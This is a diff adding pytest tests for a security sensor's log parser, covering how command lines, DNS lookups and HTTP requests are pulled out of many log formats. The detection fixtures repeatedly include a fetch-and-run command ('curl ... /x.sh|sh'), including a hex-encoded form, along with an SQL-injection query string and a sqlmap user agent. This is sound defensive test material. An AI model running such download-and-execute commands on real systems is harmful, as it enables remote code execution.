@@ -1,0 +1,369 @@
+"""Formats as they are in the wild: each line gives its string, its specialist and its time; what cannot be used is named."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from edge_demist.sensor.detect.mapping import FieldMapping, load_rules
+from edge_demist.sensor.sources.parser import LineParser
+from edge_demist.sensor.sources.timestamps import format_time
+from tests.support.sensor_fakes import balanced, watch_once
+from tools.sensor.fake_model import ALARM_TASKS, CATEGORY_TASKS
+
+MAPPING = FieldMapping(load_rules(), ALARM_TASKS + CATEGORY_TASKS)
+SHELL = "curl http://198.51.100.7/x.sh|sh"
+NAME = "xjw8k2qpz7v1.info"
+NAMES = {"dga", "dns-tunnel", "hostname-category", "hostname-threat"}
+SYSMON = {"EventID": 1, "UtcTime": "2024-05-01 08:00:00.123", "CommandLine": SHELL}
+EVE_DNS = {"timestamp": "2024-05-01T08:00:00.123000+0000", "event_type": "dns", "dns": {"type": "query", "rrname": NAME}}
+ZEEK_DNS = {"ts": 1714550400.123, "uid": "C1", "query": NAME, "qtype_name": "A"}
+MOMENT = "2024-05-01T08:00:00.123000Z"
+
+
+def found(line: bytes, name: str = "x.json") -> tuple[dict[str, set[str]], str | None]:
+    """Strings with their specialists, and the time of the first record."""
+    record = LineParser(name).parse(line)
+    assert record is not None and not isinstance(record, str), record
+    strings: dict[str, set[str]] = {}
+    time = None
+    for part in getattr(record, "parts", ()) or (record,):
+        mapped = MAPPING.apply(part)
+        assert not isinstance(mapped, str), mapped
+        for item in mapped:
+            strings.setdefault(item.text, set()).update(item.tasks)
+        us = MAPPING.time_us(part)
+        time = time or (None if us is None else format_time(us))
+    return strings, time
+
+
+def line(value: object) -> bytes:
+    return json.dumps(value).encode()
+
+
+XML_EVENT = (
+    "<Event><System><TimeCreated SystemTime='2024-05-01T08:00:00.123Z'/></System>"
+    f"<EventData><Data Name='CommandLine'>{SHELL}</Data></EventData></Event>"
+)
+COMMANDS: dict[str, object] = {
+    "sysmon": SYSMON,
+    "sysmon, nested": {"Event": {"System": {"EventID": 1}, "EventData": {"UtcTime": "2024-05-01 08:00:00.123", "CommandLine": SHELL}}},
+    "evtx_dump": {
+        "Event": {
+            "System": {"EventID": 4688, "TimeCreated": {"#attributes": {"SystemTime": "2024-05-01T08:00:00.123Z"}}},
+            "EventData": {"CommandLine": SHELL},
+        }
+    },
+    "event data as a list": {
+        "Event": {
+            "System": {"TimeCreated": {"@SystemTime": "2024-05-01T08:00:00.1230000Z"}},
+            "EventData": {"Data": [{"@Name": "User", "#text": "x"}, {"@Name": "CommandLine", "#text": SHELL}]},
+        }
+    },
+    "EvtxECmd": {
+        "TimeCreated": "2024-05-01T08:00:00.1230000+00:00",
+        "Payload": json.dumps({"EventData": {"Data": [{"@Name": "CommandLine", "#text": SHELL}]}}),
+    },
+    "Get-WinEvent": {
+        "TimeCreated": "/Date(1714550400123)/",
+        "Id": 1,
+        "Message": f"Process Create:\r\nRuleName: -\r\nUtcTime: 2024-05-01 08:00:00.123\r\nCommandLine: {SHELL}\r\nUser: x",
+    },
+    "security event as text": {
+        "EventTime": "2024-05-01 08:00:00.123",
+        "Message": f"A new process has been created.\r\n\tProcess Command Line:\t{SHELL}\r\n",
+    },
+    "winlogbeat": {
+        "@timestamp": "2024-05-01T08:00:00.123Z",
+        "winlog": {"event_data": {"CommandLine": SHELL}},
+        "process": {"command_line": SHELL},
+    },
+    "elastic, dotted keys": {"@timestamp": "2024-05-01T08:00:00.123Z", "process.command_line": SHELL},
+    "auditbeat": {"@timestamp": "2024-05-01T08:00:00.123Z", "process": {"args": SHELL.split(" "), "title": SHELL[:10]}},
+    "wazuh, windows": {
+        "timestamp": "2024-05-01T08:00:00.123+0000",
+        "data": {"win": {"eventdata": {"commandLine": SHELL}}},
+        "full_log": "{}",
+    },
+    "wazuh, audit": {"timestamp": "2024-05-01T08:00:00.123+0000", "data": {"audit": {"execve": {"a1": SHELL.split(" ")[1], "a0": "curl"}}}},
+    "wazuh, osquery": {"timestamp": "2024-05-01T08:00:00.123+0000", "data": {"osquery": {"columns": {"cmdline": SHELL}}}},
+    "laurel": {"ID": "1714550400.123:79", "EXECVE": {"ARGV": SHELL.split(" ")}, "PROCTITLE": {"ARGV": [SHELL[:9]]}},
+    "laurel, percent": {"ID": "1714550400.123:79", "PROCTITLE": {"ARGV": [SHELL.replace("|", "%7C")]}},
+    "osquery": {"name": "p", "unixTime": "1714550400.123", "columns": {"cmdline": SHELL}, "action": "added"},
+    "osquery, calendar": {"name": "p", "calendarTime": "Wed May  1 08:00:00 2024 UTC", "columns": {"cmdline": SHELL}},
+    "osquery, snapshot": {"action": "snapshot", "unixTime": 1714550400.123, "snapshot": [{"cmdline": SHELL, "pid": "1"}]},
+    "osquery, differences": {"unixTime": 1714550400.123, "diffResults": {"added": [{"cmdline": SHELL}], "removed": [{"cmdline": "old"}]}},
+    "falco": {"time": "2024-05-01T08:00:00.123456789Z", "output_fields": {"proc.cmdline": SHELL, "evt.time": 1714550400123456789}},
+    "falco, no time": {"output_fields": {"proc.cmdline": SHELL, "evt.time": 1714550400123000000}},
+    "kunai": {"data": {"command_line": SHELL}, "info": {"event": {"name": "execve"}, "utc_time": "2024-05-01T08:00:00.123456789Z"}},
+    "tetragon": {
+        "process_exec": {"process": {"binary": "curl", "arguments": SHELL.split(" ")[1]}},
+        "time": "2024-05-01T08:00:00.123456789Z",
+    },
+    "tracee": {"timestamp": 1714550400123456789, "eventName": "sched_process_exec", "args": [{"name": "argv", "value": SHELL.split(" ")}]},
+    "defender": {"Timestamp": "2024-05-01T08:00:00.123Z", "ProcessCommandLine": SHELL},
+    "defender, stream": {
+        "category": "AdvancedHunting-DeviceProcessEvents",
+        "properties": {"Timestamp": "2024-05-01T08:00:00.123Z", "ProcessCommandLine": SHELL},
+    },
+    "defender, several": {"records": [{"time": "2024-05-01T08:00:00.123Z", "properties": {"ProcessCommandLine": SHELL}}]},
+    "carbon black": {"type": "endpoint.event.procstart", "process_cmdline": SHELL, "device_timestamp": "2024-05-01 08:00:00.123 +0000 UTC"},
+    "crowdstrike": {"event_simpleName": "ProcessRollup2", "CommandLine": SHELL, "timestamp": "1714550400123"},
+    "crowdstrike, context": {"event_simpleName": "ProcessRollup2", "CommandLine": SHELL, "ContextTimeStamp": "1714550400.123"},
+    "crowdstrike, stream": {"metadata": {"eventCreationTime": 1714550400123}, "event": {"CommandLine": SHELL, "FileName": "x"}},
+    "splunk HEC": {"time": 1714550400.123, "sourcetype": "sysmon", "event": {"CommandLine": SHELL}},
+    "splunk HEC, text": {"time": "1714550400.123", "event": json.dumps({"CommandLine": SHELL})},
+    "splunk export": {"preview": False, "result": {"_time": "2024-05-01T08:00:00.123+00:00", "_raw": json.dumps({"CommandLine": SHELL})}},
+    "splunk, XML": {"result": {"_raw": XML_EVENT}},
+    "elasticsearch hit": {
+        "_index": "i",
+        "_id": "1",
+        "_source": {"@timestamp": "2024-05-01T08:00:00.123Z", "process": {"command_line": SHELL}},
+    },
+    "elasticsearch answer": {
+        "took": 1,
+        "hits": {"total": 1, "hits": [{"_source": {"@timestamp": "2024-05-01T08:00:00.123Z", "process": {"command_line": SHELL}}}]},
+    },
+    "filebeat around a line": {
+        "@timestamp": "2024-05-01T08:00:00.123Z",
+        "message": json.dumps({"CommandLine": SHELL}),
+        "log": {"file": {"path": "/x"}},
+    },
+    "container log": {"log": json.dumps(SYSMON) + "\n", "stream": "stdout", "time": "2024-05-01T09:00:00.5Z"},
+    "cloudwatch": {"logEvents": [{"id": "1", "timestamp": 1714550400123, "message": json.dumps({"CommandLine": SHELL})}]},
+    "audit in a message": {
+        "@timestamp": "2024-05-01T09:00:00Z",
+        "message": 'type=EXECVE msg=audit(1714550400.123:7): argc=2 a0="curl" a1="http://198.51.100.7/x.sh|sh"',
+    },
+}
+
+
+@pytest.mark.parametrize("name", COMMANDS)
+def test_command_lines_of_many_sources(name: str) -> None:
+    strings, time = found(line(COMMANDS[name]))
+    assert strings == {SHELL: {"cmdline"}}
+    assert time is not None and time[:19] == MOMENT[:19] and (time[20:23] == "123" or "calendar" in name)
+
+
+LOOKUPS: dict[str, object] = {
+    "suricata": EVE_DNS,
+    "suricata in wazuh": {
+        "timestamp": "2024-05-01T09:00:00.000+0000",
+        "rule": {"id": "1"},
+        "data": EVE_DNS,
+        "location": "/var/log/suricata/eve.json",
+    },
+    "suricata in filebeat": {"@timestamp": "2024-05-01T09:00:00.000Z", "message": json.dumps(EVE_DNS)},
+    "suricata in HEC": {"time": 1, "event": EVE_DNS},
+    "zeek": ZEEK_DNS,
+    "zeek, tagged": {"dns": ZEEK_DNS},
+    "zeek, tagged in capitals, with additions": {"DNS": ZEEK_DNS, "@timestamp": "2024-05-01T09:00:00.000Z", "@version": "1"},
+    "zeek, tagged, a variant": {"dns_red": ZEEK_DNS},
+    "zeek in an index": {"_source": {"_path": "dns", **ZEEK_DNS}},
+    "packetbeat": {"@timestamp": "2024-05-01T08:00:00.123Z", "type": "dns", "dns": {"question": {"name": NAME}}},
+    "filebeat, zeek module": {
+        "@timestamp": "2024-05-01T08:00:00.123Z",
+        "dns": {"question": {"name": NAME}},
+        "zeek": {"dns": {"query": NAME}},
+    },
+    "elastic, dotted": {"@timestamp": "2024-05-01T08:00:00.123Z", "dns.question.name": NAME},
+    "elastic, half dotted": {"@timestamp": "2024-05-01T08:00:00.123Z", "dns": {"question.name": NAME}},
+    "security onion": {"@timestamp": "2024-05-01T08:00:00.123Z", "dns": {"query": {"name": NAME}}, "message": json.dumps(ZEEK_DNS)},
+    "sysmon": {"EventID": 22, "UtcTime": "2024-05-01 08:00:00.123", "QueryName": NAME},
+    "wazuh, sysmon": {"timestamp": "2024-05-01T08:00:00.123+0000", "data": {"win": {"eventdata": {"queryName": NAME}}}},
+    "kunai": {
+        "data": {"query": NAME, "command_line": "x"},
+        "info": {"event": {"name": "dns_query"}, "utc_time": "2024-05-01T08:00:00.123Z"},
+    },
+    "crowdstrike": {"event_simpleName": "DnsRequest", "DomainName": NAME, "timestamp": "1714550400123"},
+    "route 53": {"query_timestamp": "x", "query_name": NAME, "timestamp": "2024-05-01T08:00:00.123Z"},
+}
+
+
+@pytest.mark.parametrize("name", LOOKUPS)
+def test_names_of_many_sources(name: str) -> None:
+    strings, time = found(line(LOOKUPS[name]))
+    assert strings == {NAME: NAMES} and time == MOMENT
+
+
+AUDIT = 'type=EXECVE msg=audit(1714550400.123:7973): argc=2 a0="curl" a1=687474703A2F2F3139382E35312E3130302E372F782E73687C7368'
+PREFIXES = [
+    "",
+    "  ",
+    "<134>1 2024-05-01T08:00:01Z host suricata 123 - - ",
+    "<13>May  1 08:00:01 host app[12]: ",
+    "May  1 08:00:01 host app: @cee: ",
+    "May  1 08:00:01 host app: @cee:",
+    "2024-05-01T08:00:01.000000000Z stdout F ",
+    "[2024-05-01 08:00:01] INFO ",
+    "prefix {not json} ",
+]
+
+
+@pytest.mark.parametrize("prefix", PREFIXES[:-1])
+@pytest.mark.parametrize("value", [SYSMON, EVE_DNS])
+def test_an_object_behind_a_prefix(prefix: str, value: dict) -> None:
+    strings, time = found(prefix.encode() + line(value))
+    assert list(strings) in ([SHELL], [NAME]) and time == MOMENT
+
+
+def test_the_prefix_lends_its_time() -> None:
+    record = {"CommandLine": SHELL}
+    assert found(b"<134>1 2024-05-01T08:00:00.123Z host app - - - " + line(record))[1] == MOMENT
+    assert found(b"2024-05-01T08:00:00.123000000Z stdout F " + line(record))[1] == MOMENT
+
+
+@pytest.mark.parametrize("prefix", ["", "node=web1 ", "May  1 08:00:01 host audispd: ", "<13>May  1 08:00:01 host audit: "])
+def test_raw_audit_lines(prefix: str) -> None:
+    assert found(f"{prefix}{AUDIT}".encode(), "audit.log") == ({SHELL: {"cmdline"}}, MOMENT)
+
+
+def test_arguments_in_pieces_and_titles_in_hexadecimal() -> None:
+    pieces = b'type=EXECVE msg=audit(1714550400.123:7): argc=2 a0="sh" a1_len=12 a1[0]="abc " a1[1]=646566'
+    assert list(found(pieces)[0]) == ["sh abc def"]
+    title = b"type=PROCTITLE msg=audit(1714550400.123:8): proctitle=" + b"bash\0-c\0id".hex().upper().encode()
+    assert list(found(title)[0]) == ["bash -c id"]
+    plain = b'type=PROCTITLE msg=audit(1714550400.123:8): proctitle="/usr/sbin/sshd"'
+    assert list(found(plain)[0]) == ["/usr/sbin/sshd"]
+    assert list(found(line({"type": "PROCTITLE", "proctitle": b"bash\0-c\0id".hex()}))[0]) == ["bash -c id"]
+    assert list(found(line({"proctitle": "deadbeef"}))[0]) == ["deadbeef"]
+
+
+def test_a_command_in_two_records_or_fields_is_one() -> None:
+    parser = LineParser("audit.log")
+    assert MAPPING.apply(parser.parse(AUDIT.encode())) != "no-string"  # type: ignore[arg-type]
+    assert parser.parse(b"type=PROCTITLE msg=audit(1714550400.123:7973): proctitle=6375726C") == "same-command"
+    assert parser.parse(b"type=SYSCALL msg=audit(1714550400.123:7974): arch=c000003e") == "no-command"
+    again = LineParser("audit.log")
+    again.restore(parser.state())
+    assert again.parse(b"type=PROCTITLE msg=audit(1714550400.123:7973): proctitle=6375726C") == "same-command"
+    both = {"@timestamp": "2024-05-01T08:00:00Z", "process": {"command_line": SHELL}, "winlog": {"event_data": {"CommandLine": SHELL}}}
+    mapped = MAPPING.apply(LineParser("x").parse(line(both)))  # type: ignore[arg-type]
+    assert len(mapped) == 1
+
+
+@pytest.mark.parametrize("text", [r"m\xfcnchen.de", r"*\x00\x00", r"a\x5cb\x0a"])
+def test_bytes_are_the_same_in_both_forms_of_zeek(text: str) -> None:
+    table = LineParser("dns.log")
+    for header in ("#separator \\x09", "#path\tdns", "#fields\tts\tquery"):
+        table.parse(header.encode())
+    plain = table.parse(f"1.0\t{text}".encode())
+    parsed = LineParser("dns.log").parse(line({"ts": 1.0, "uid": "C", "query": text}))
+    assert plain.values("query") == parsed.values("query") != [text]  # type: ignore[union-attr]
+
+
+def test_suricata_s_escaped_bytes_are_undone_and_others_left() -> None:
+    record = LineParser("x").parse(line({**EVE_DNS, "dns": {"rrname": r"m\xfcnchen.de"}}))
+    assert record.values("dns.rrname") == ["m\udcfcnchen.de"]  # type: ignore[union-attr]
+    record = LineParser("x").parse(line({**EVE_DNS, "event_type": "http", "http": {"url": r"/\x41%41"}}))
+    assert record.values("http.url") == [r"/\x41%41"]  # type: ignore[union-attr]
+
+
+@pytest.mark.parametrize("log", ["open_http", "http_red", "http_long", "my_http"])
+def test_variants_of_zeek_s_logs(log: str) -> None:
+    parser = LineParser(f"{log}.log")
+    for header in ("#separator \\x09", f"#path\t{log}", "#fields\tts\thost\turi"):
+        parser.parse(header.encode())
+    mapped = MAPPING.apply(parser.parse(b"1.0\th.example\t/x"))  # type: ignore[arg-type]
+    assert {m.text for m in mapped} == {"h.example", "/x", "h.example/x"}  # type: ignore[union-attr]
+
+
+ACCESS = '192.0.2.1 - - [01/May/2024:08:00:00 +0000] "GET /?q=1%20or%201=1 HTTP/1.1" 200 12 "-" "sqlmap/1.7"'
+
+
+@pytest.mark.parametrize("vhost", ["", "www.example.com:443 "])
+def test_access_logs(vhost: str) -> None:
+    strings, time = found((vhost + ACCESS).encode(), "access.log")
+    assert strings["/?q=1%20or%201=1"] == {"uri-attack"} and strings["sqlmap/1.7"] == {"user-agent"}
+    assert time == "2024-05-01T08:00:00.000000Z" and ("www.example.com:443/?q=1%20or%201=1" in strings) == bool(vhost)
+
+
+def http(**parts: object) -> bytes:
+    return line({"timestamp": "2024-05-01T08:00:00Z", "event_type": "http", "http": parts})
+
+
+@pytest.mark.parametrize(
+    ("parts", "url", "target"),
+    [
+        ({"hostname": "a.example", "url": "a.example:443", "http_method": "CONNECT"}, "a.example:443", None),
+        ({"hostname": "a.example", "url": "a.example", "http_method": "CONNECT"}, "a.example", None),
+        ({"url": "b.example:8443", "http_method": "CONNECT"}, "b.example:8443", None),
+        ({"hostname": "a.example", "url": "*", "http_method": "OPTIONS"}, None, None),
+        ({"url": "/login/index.php"}, None, "/login/index.php"),
+        ({"url": "/p?q", "request_headers": [{"name": ":authority", "value": "h2.example"}]}, "h2.example/p?q", "/p?q"),
+        ({"url": "/p", "request_headers": [{"name": "Host", "value": "h1.example"}]}, "h1.example/p", "/p"),
+        ({"hostname": "a.example", "url": "http://b.example/x?y"}, "http://b.example/x?y", "/x?y"),
+        ({"url": "http://b.example"}, "http://b.example", "/"),
+        ({"hostname": "a.example", "url": "a.example/x"}, "a.example/x", "a.example/x"),
+        ({"hostname": "a.example", "url": "index.php"}, "a.example/index.php", "index.php"),
+        ({"hostname": "a.example", "url": "?id=1"}, "a.example/?id=1", "?id=1"),
+        ({"hostname": "a.example:8080", "url": "/x"}, "a.example:8080/x", "/x"),
+        ({"hostname": "a.example", "url": "//b.example/x"}, "a.example//b.example/x", "//b.example/x"),
+        ({"hostname": "a.example", "url": "/x?u=http://c.example/"}, "a.example/x?u=http://c.example/", "/x?u=http://c.example/"),
+    ],
+)
+def test_addresses(parts: dict, url: str | None, target: str | None) -> None:
+    record = LineParser("eve.json").parse(http(**parts))
+    mapped = MAPPING.apply(record)  # type: ignore[arg-type]
+    by_task = {task: m.text for m in (mapped if isinstance(mapped, list) else ()) for task in m.tasks}
+    assert by_task.get("url-phishing") == url and by_task.get("uri-attack") == target
+
+
+# --- files that nobody understands ------------------------------------------------------------------------------------
+
+STRANGE = {
+    "text.log": b"just some words\nand others\n",
+    "other.json": b'{"temperature": 20}\n{"temperature": 21}\n',
+    "custom.log": b"#separator \\x09\n#path\tmy_sensor\n#fields\tts\tvolts\n1.0\t5\n",
+    "broken.json": b'{"a": \n{"b":\n',
+    "numbers.json": b"1\n2\n",
+}
+
+
+@pytest.mark.parametrize("name", STRANGE)
+def test_a_file_of_no_use_is_named_with_reason_and_hint(tmp_path: Path, name: str) -> None:
+    (tmp_path / name).write_bytes(STRANGE[name])
+    told: list[tuple[str, dict]] = []
+    events, summary = watch_once(tmp_path, tmp_path / name, log=lambda event, facts: told.append((event, facts)))
+    named = [facts for event, facts in told if event == "not-understood"]
+    assert not events and balanced(summary) and len(named) == 1 and named[0]["path"] == str(tmp_path / name)
+    assert summary["not_understood"][str(tmp_path / name)]["hint"] and "docs/formats.md" in named[0]["hint"]
+    assert name != "other.json" or "temperature" in named[0]["hint"]
+
+
+QUIET = {
+    "conn.log": b"#separator \\x09\n#path\tconn\n#fields\tts\tuid\n1.0\tC\n",
+    "dns.log": b"#separator \\x09\n#path\tdns\n#fields\tts\tquery\n1.0\t-\n",
+    "eve.json": b'{"timestamp":"2024-05-01T08:00:00Z","event_type":"stats","stats":{}}\n',
+    "audit.log": b"type=SYSCALL msg=audit(1714550400.123:7974): arch=c000003e\n",
+    "empty.log": b"#separator \\x09\n#path\tdns\n#fields\tts\tquery\n",
+    "mixed.json": b'{"temperature": 20}\n{"CommandLine": "id"}\n',
+}
+
+
+@pytest.mark.parametrize("name", QUIET)
+def test_a_quiet_log_is_not_named(tmp_path: Path, name: str) -> None:
+    (tmp_path / name).write_bytes(QUIET[name])
+    told: list[str] = []
+    _, summary = watch_once(tmp_path, tmp_path / name, log=lambda event, facts: told.append(event))
+    assert "not_understood" not in summary and "not-understood" not in told and balanced(summary)
+
+
+def test_no_time_at_all_is_the_time_of_arrival_and_said_once(tmp_path: Path) -> None:
+    (tmp_path / "host.json").write_bytes(b"".join(line({"CommandLine": f"id {i}"}) + b"\n" for i in range(3)))
+    told: list[str] = []
+    events, _ = watch_once(tmp_path, tmp_path / "host.json", log=lambda event, facts: told.append(event))
+    assert len(events) == 3 and told.count("no-time") == 1
+    assert all(event["time"] >= "2026" and event["time_source"] == "arrival" for event in events)
+
+
+def test_several_records_of_one_line_are_events_of_their_own(tmp_path: Path) -> None:
+    hits = [{"_source": {"@timestamp": f"2024-05-01T08:00:0{i}Z", "process": {"command_line": f"id {i}"}}} for i in range(3)]
+    (tmp_path / "answer.json").write_bytes(
+        line({"hits": {"hits": hits}}) + b"\n" + line([{"CommandLine": "w"}, {"CommandLine": "who"}]) + b"\n"
+    )
+    events, summary = watch_once(tmp_path, tmp_path / "answer.json")
+    assert [e["text"] for e in events] == ["id 0", "id 1", "id 2", "w", "who"] and summary["records"] == 5 and balanced(summary)
+    assert len({e["event_id"] for e in events}) == 5 and [e["time"][17:19] for e in events[:3]] == ["00", "01", "02"]
